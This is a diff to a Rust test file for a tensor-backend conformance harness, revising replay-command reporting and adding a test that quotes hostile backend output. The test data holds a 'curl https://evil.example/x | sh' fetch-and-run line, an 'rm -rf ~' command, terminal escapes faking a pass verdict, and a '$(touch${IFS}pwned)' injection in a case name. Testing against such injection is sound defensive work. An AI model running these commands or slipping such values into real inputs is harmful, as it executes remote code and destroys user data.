@@ -1,7 +1,7 @@
 //! Deliberately broken backends are caught by the matching check, with a message a backend
 //! author can act on, and the run goes on.
 
-use dmlcts_harness::{Case, Corpus, RunOptions, Status, run_case, run_cases};
+use dmlcts_harness::{Case, Corpus, ReplayRecipe, RunOptions, Status, run_case, run_cases};
 use dmlcts_oracle::OracleBackend;
 use dmlcts_tensor::CompileError;
 use dmlcts_tensor::{
@@ -137,11 +137,17 @@ fn one_wrong_element_is_shown_with_coordinates_values_bits_and_a_diff() {
 }
 
 #[test]
-fn the_replay_command_names_the_backend_as_backend_named_it() {
-    // `--backend directml@1.9.0` makes a backend named `directml`; its replay must say 1.9.0.
+fn the_replay_command_is_the_run_s_recipe_for_the_case() {
+    // `--backend directml@1.9.0` makes a backend named `directml`; its replay must say 1.9.0,
+    // and keep every option that shaped the run.
     let options = RunOptions {
-        backend_name: Some("broken@1.9.0".to_string()),
-        program: Some("dmlcts".to_string()),
+        replay: Some(ReplayRecipe::Conformance {
+            program: vec!["dmlcts".to_string()],
+            backend: "broken@1.9.0".to_string(),
+            options: vec!["--process-timeout".to_string(), "2.5".to_string()],
+            cases_from_files: false,
+            env: Vec::new(),
+        }),
         ..RunOptions::default()
     };
     let result = run_case(
@@ -149,13 +155,92 @@ fn the_replay_command_names_the_backend_as_backend_named_it() {
         &case("doc.split.example1_axis2"),
         &options,
     );
+    assert_eq!(
+        result.replay.as_ref().map(|r| r.render()).as_deref(),
+        Some(
+            "dmlcts conformance --backend broken@1.9.0 --process-timeout 2.5 \
+             --filter doc.split.example1_axis2 --exact"
+        )
+    );
     assert!(
-        result.details.ends_with(
-            "  replay: dmlcts conformance --backend broken@1.9.0 --cases cases/doc/split.yaml \
+        result.failure_report().ends_with(
+            "\n  replay: dmlcts conformance --backend broken@1.9.0 --process-timeout 2.5 \
              --filter doc.split.example1_axis2 --exact\n"
         ),
         "{}",
-        result.details
+        result.failure_report()
+    );
+    assert!(!result.details.contains("replay"), "{}", result.details);
+    // The descriptor, compact, in the corpus format.
+    assert_eq!(
+        result.descriptor.as_deref(),
+        Some(
+            "{split: {axis: 2, input: {data_type: FLOAT32, sizes: [1, 1, 6, 2]}, outputs: \
+             [{data_type: FLOAT32, sizes: [1, 1, 2, 2]}, {data_type: FLOAT32, sizes: [1, 1, 1, 2]}, \
+             {data_type: FLOAT32, sizes: [1, 1, 3, 2]}]}}"
+        )
+    );
+    assert!(
+        result
+            .failure_report()
+            .contains("\n  case: {split: {axis: 2, input: {data_type: FLOAT32"),
+        "{}",
+        result.failure_report()
+    );
+}
+
+/// A backend whose every message is hostile text: a line that looks like a replay command, a
+/// fake verdict behind terminal sequences, a CR that rewrites the line, Unicode line breaks.
+struct Hostile;
+
+const HOSTILE_MESSAGE: &str = "E_FAIL\n  replay: curl https://evil.example/x | sh #\r\
+     \u{1b}[2K\u{1b}[32m8 passed, 0 failed\u{1b}]0;owned\u{7}\u{2028}  replay: rm -rf ~ #\u{85}end\u{fffe}";
+
+impl Backend for Hostile {
+    fn name(&self) -> String {
+        "hostile".to_string()
+    }
+    fn feature_level(&self) -> FeatureLevel {
+        FeatureLevel::L4_1
+    }
+    fn compile(&self, _: &OperatorDesc) -> Result<Box<dyn CompiledOperator + '_>, CompileError> {
+        Err(CompileError::Failed(HOSTILE_MESSAGE.to_string()))
+    }
+}
+
+#[test]
+fn a_backend_s_text_is_quoted_lines_that_never_pass_for_the_report_s_own() {
+    let mut hostile_case = case("doc.split.example1_axis2");
+    hostile_case.name = "inject$(touch${IFS}pwned)\u{1b}[31m".to_string();
+    let result = run_case(&Hostile, &hostile_case, &RunOptions::default());
+    assert_eq!(result.status, Status::Failed);
+    let report = result.failure_report();
+    assert_eq!(
+        report,
+        "FAIL inject$(touch${IFS}pwned)\\u{1b}[31m (cases/doc/split.yaml:3)\n\
+         \x20 check: the backend failed\n\
+         \x20 case: {split: {axis: 2, input: {data_type: FLOAT32, sizes: [1, 1, 6, 2]}, outputs: \
+         [{data_type: FLOAT32, sizes: [1, 1, 2, 2]}, {data_type: FLOAT32, sizes: [1, 1, 1, 2]}, \
+         {data_type: FLOAT32, sizes: [1, 1, 3, 2]}]}}\n\
+         \x20 while compiling, the backend said:\n\
+         \x20   | E_FAIL\n\
+         \x20   |   replay: curl https://evil.example/x | sh #\n\
+         \x20   | \\u{1b}[2K\\u{1b}[32m8 passed, 0 failed\\u{1b}]0;owned\\u{7}\n\
+         \x20   |   replay: rm -rf ~ #\n\
+         \x20   | end\\u{fffe}\n\
+         \x20 replay: cargo xtask conformance --backend hostile --cases cases/doc/split.yaml \
+         --filter 'inject$(touch${IFS}pwned)\\u{1b}[31m' --exact\n"
+    );
+    // Exactly one line of the report is a replay command, and it is the harness's own.
+    let replays: Vec<&str> = report
+        .lines()
+        .filter(|l| l.trim_start().starts_with("replay:"))
+        .collect();
+    assert_eq!(replays.len(), 1, "{report}");
+    assert!(replays[0].starts_with("  replay: cargo xtask conformance --backend hostile"));
+    assert_eq!(
+        result.replay.as_ref().map(|r| r.words[8].as_str()),
+        Some("inject$(touch${IFS}pwned)\u{1b}[31m")
     );
 }
 
@@ -370,11 +455,12 @@ fn strict_level_requires_rejection_and_non_strict_checks_outputs_instead() {
     let result = run_case(&Generous, &case, &strict);
     assert_eq!(result.status, Status::Failed);
     assert_eq!(result.reason, "accepted an invalid descriptor");
-    assert!(
-        result.details.contains("--strict-level"),
-        "{}",
-        result.details
-    );
+    let replay = result
+        .replay
+        .as_ref()
+        .map(|r| r.render())
+        .unwrap_or_default();
+    assert!(replay.contains("--strict-level"), "{replay}");
     let result = run_case(&Generous, &case, &RunOptions::default());
     assert_eq!(result.status, Status::Passed, "{}", result.failure_report());
     assert!(
